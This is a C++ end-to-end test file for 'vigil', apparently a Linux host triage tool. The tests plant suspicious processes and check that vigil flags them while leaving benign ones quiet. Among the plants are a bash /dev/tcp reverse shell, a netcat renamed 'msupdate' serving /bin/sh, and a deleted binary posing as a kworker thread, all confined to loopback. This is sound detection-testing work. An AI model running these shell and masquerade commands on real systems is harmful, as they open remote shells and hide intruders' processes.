// End-to-end on the live host: plant the real artefact, run vigil, see the finding;
// and see the same host quiet without it.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <atomic>
#include <filesystem>
#include <fstream>

#include "e2e/vigil_run.hpp"
#include "support/temp_dir.hpp"

using namespace vigil::testing;
namespace fs = std::filesystem;

namespace {

std::vector<nlohmann::json> triage_live() {
  auto r = run_vigil({"triage", "--format", "jsonl", "--no-suppress"});
  EXPECT_TRUE(r.exit_code == 0 || r.exit_code == 1) << r.err;
  return parse_jsonl(r.out);
}

std::string exe_of(pid_t pid) {
  std::error_code ec;
  return fs::read_symlink("/proc/" + std::to_string(pid) + "/exe", ec).string();
}

// True when something listens on 127.0.0.1:port (TCP), per /proc/net/tcp.
bool tcp_listening(int port) {
  std::ifstream in("/proc/net/tcp");
  char want[16];
  std::snprintf(want, sizeof want, "0100007F:%04X", port);
  for (std::string line; std::getline(in, line);)
    if (line.find(want) != std::string::npos && line.find(" 0A ") != std::string::npos) return true;
  return false;
}

bool port_free(int port) {
  int s = ::socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(static_cast<uint16_t>(port));
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int one = 1;
  ::setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  bool ok = ::bind(s, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0;
  ::close(s);
  return ok;
}

std::string severity_of(const std::vector<nlohmann::json>& f) {
  return f.empty() ? "" : f[0]["vigil"]["severity"];
}

}  // namespace

TEST(LiveTriage, ThisHostWithoutPlantedArtefacts_HasNoHighOrCriticalFindings) {
  auto r = run_vigil({"triage", "--format", "jsonl", "--no-suppress"});
  ASSERT_EQ(r.exit_code, 0) << r.out;
  for (const auto& f : parse_jsonl(r.out)) {
    std::string sev = f["vigil"]["severity"];
    EXPECT_TRUE(sev != "high" && sev != "critical") << f.dump();
  }
}

TEST(LiveTriage, DeletedTempProgramNamedLikeAKernelThread_IsReported) {
  if (!fs::exists("/usr/bin/sleep")) GTEST_SKIP() << "needs /usr/bin/sleep";
  TempDir dir("vigil-e2e");
  fs::create_directories(dir / ".cache");
  std::string path = dir / ".cache/kworker";
  fs::copy_file("/usr/bin/sleep", path);
  Planted p(path, {"[kworker/0:1]", "300"});
  ASSERT_TRUE(wait_for([&] { return exe_of(p.pid()) == path; }));
  fs::remove(path);
  ASSERT_TRUE(wait_for([&] { return exe_of(p.pid()).ends_with("(deleted)"); }));

  auto all = triage_live();
  EXPECT_EQ(severity_of(findings_of(all, "process.deleted-executable", p.pid())), "high");
  EXPECT_EQ(severity_of(findings_of(all, "process.temp-executable", p.pid())), "high");
  EXPECT_EQ(severity_of(findings_of(all, "process.kernel-thread-masquerade", p.pid())), "high");
}

TEST(LiveTriage, PackagedProgramRunNormally_IsQuiet) {
  if (!fs::exists("/usr/bin/sleep")) GTEST_SKIP() << "needs /usr/bin/sleep";
  Planted p("/usr/bin/sleep", {"sleep", "300"});
  ASSERT_TRUE(wait_for([&] { return exe_of(p.pid()) == "/usr/bin/sleep"; }));
  auto all = triage_live();
  EXPECT_TRUE(findings_for_pid(all, p.pid()).empty()) << findings_for_pid(all, p.pid())[0].dump();
}

TEST(LiveTriage, RenamedNetcatServingAShellOnPort3349_IsCritical) {
  const std::string nc = "/usr/bin/nc.traditional";
  if (!fs::exists(nc)) GTEST_SKIP() << "needs netcat-traditional (make setup installs it)";
  if (!port_free(3349)) GTEST_SKIP() << "127.0.0.1:3349 is in use";
  TempDir dir("vigil-e2e");
  std::string path = dir / "msupdate";
  fs::copy_file(nc, path);
  Planted p(path, {"msupdate", "-l", "-p", "3349", "-s", "127.0.0.1", "-e", "/bin/sh"});
  ASSERT_TRUE(wait_for([] { return tcp_listening(3349); }))
      << "the planted netcat did not start listening";

  auto all = triage_live();
  EXPECT_EQ(severity_of(findings_of(all, "process.reverse-shell", p.pid())), "critical");
  auto renamed = findings_of(all, "process.renamed-system-binary", p.pid());
  ASSERT_EQ(renamed.size(), 1u);
  EXPECT_EQ(renamed[0]["vigil"]["severity"], "critical");
  EXPECT_TRUE(std::string(renamed[0]["file"]["path"]).ends_with("/nc.traditional"));
  auto listener = findings_of(all, "process.unowned-listener", p.pid());
  ASSERT_EQ(listener.size(), 1u);
  EXPECT_EQ(listener[0]["destination"]["port"], 3349);
  EXPECT_EQ(listener[0]["vigil"]["severity"], "high");  // unowned, in /tmp, listening
  EXPECT_EQ(severity_of(findings_of(all, "process.temp-executable", p.pid())), "high");
}

TEST(LiveTriage, PackagedNetcatListeningWithoutAShell_IsQuiet) {
  const std::string nc = "/usr/bin/nc.traditional";
  if (!fs::exists(nc)) GTEST_SKIP() << "needs netcat-traditional (make setup installs it)";
  if (!port_free(3350)) GTEST_SKIP() << "127.0.0.1:3350 is in use";
  Planted p(nc, {"nc", "-l", "-p", "3350", "-s", "127.0.0.1"});
  ASSERT_TRUE(wait_for([] { return tcp_listening(3350); }));
  auto all = triage_live();
  EXPECT_TRUE(findings_for_pid(all, p.pid()).empty()) << findings_for_pid(all, p.pid())[0].dump();
}

TEST(LiveTriage, BashDevTcpReverseShell_IsCritical) {
  if (!fs::exists("/bin/bash")) GTEST_SKIP() << "needs bash";
  int lst = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  socklen_t len = sizeof a;
  ASSERT_EQ(::bind(lst, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
  ASSERT_EQ(::listen(lst, 1), 0);
  ::getsockname(lst, reinterpret_cast<sockaddr*>(&a), &len);
  int port = ntohs(a.sin_port);
  std::string cmd = "bash -i >& /dev/tcp/127.0.0.1/" + std::to_string(port) + " 0>&1";
  Planted p("/bin/bash", {"bash", "-c", cmd});
  pollfd pfd{lst, POLLIN, 0};
  ASSERT_EQ(::poll(&pfd, 1, 5000), 1) << "the planted shell did not connect";
  int conn = ::accept4(lst, nullptr, nullptr, SOCK_CLOEXEC);
  ASSERT_GE(conn, 0);

  auto all = triage_live();
  auto shell = findings_of(all, "network.shell-connection");
  bool seen = false;
  for (const auto& f : shell)
    if (f["destination"]["port"] == port) {
      seen = true;
      EXPECT_EQ(f["vigil"]["severity"], "critical") << f.dump();
    }
  EXPECT_TRUE(seen) << "no network.shell-connection to port " << port;
  ::close(conn);
  ::close(lst);
}

TEST(LiveTriage, ShellWithoutNetwork_IsQuiet) {
  Planted p("/bin/bash", {"bash", "-c", "sleep 300; true"});
  ASSERT_TRUE(wait_for([&] { return p.alive() && exe_of(p.pid()).ends_with("bash"); }));
  auto all = triage_live();
  EXPECT_TRUE(findings_for_pid(all, p.pid()).empty()) << findings_for_pid(all, p.pid())[0].dump();
}

TEST(LiveTriage, ProcessesExitingDuringTheScan_NeverBreakIt) {
  std::atomic<bool> stop{false};
  std::thread churn([&] {
    while (!stop) {
      Planted p("/bin/true", {"true"});
    }
  });
  for (int i = 0; i < 5; ++i) {
    auto r = run_vigil({"triage", "--format", "json", "--no-suppress"});
    EXPECT_TRUE(r.exit_code == 0 || r.exit_code == 1) << r.err;
    auto doc = nlohmann::json::parse(r.out, nullptr, false);
    ASSERT_FALSE(doc.is_discarded()) << "output is not JSON";
    EXPECT_GT(doc["inventory"]["processes"].size(), 0u);
  }
  stop = true;
  churn.join();
}

TEST(LiveTriage, UnprivilegedRun_SaysWhatItCouldNotReadAndFinishes) {
  if (::geteuid() != 0) GTEST_SKIP() << "needs root to drop to nobody";
  if (!fs::exists("/usr/bin/setpriv")) GTEST_SKIP() << "needs setpriv (util-linux)";
  // setpriv runs vigil as nobody, who cannot read root's /proc/PID/fd, exe or cwd. A copy in
  // a world-readable temp dir, since the build tree may sit where nobody cannot enter.
  TempDir dir("vigil-e2e");
  fs::permissions(dir.path(), fs::perms::owner_all | fs::perms::group_read | fs::perms::group_exec |
                                  fs::perms::others_read | fs::perms::others_exec);
  std::string copy = dir / "vigil";
  fs::copy_file(VIGIL_BINARY, copy);
  auto r = run_vigil_as({"/usr/bin/setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", copy, "triage",
                         "--format", "json", "--no-suppress"});
  ASSERT_TRUE(r.exit_code == 0 || r.exit_code == 1) << r.err;
  auto doc = nlohmann::json::parse(r.out);
  EXPECT_GT(doc["inventory"]["processes"].size(), 0u);
  bool denied = false;
  for (const auto& f : doc["findings"])
    if (f["rule"]["id"] == "collector.partial" && f["error"]["message"] == "Permission denied") denied = true;
  EXPECT_TRUE(denied) << "no collector.partial for unreadable /proc entries";
}
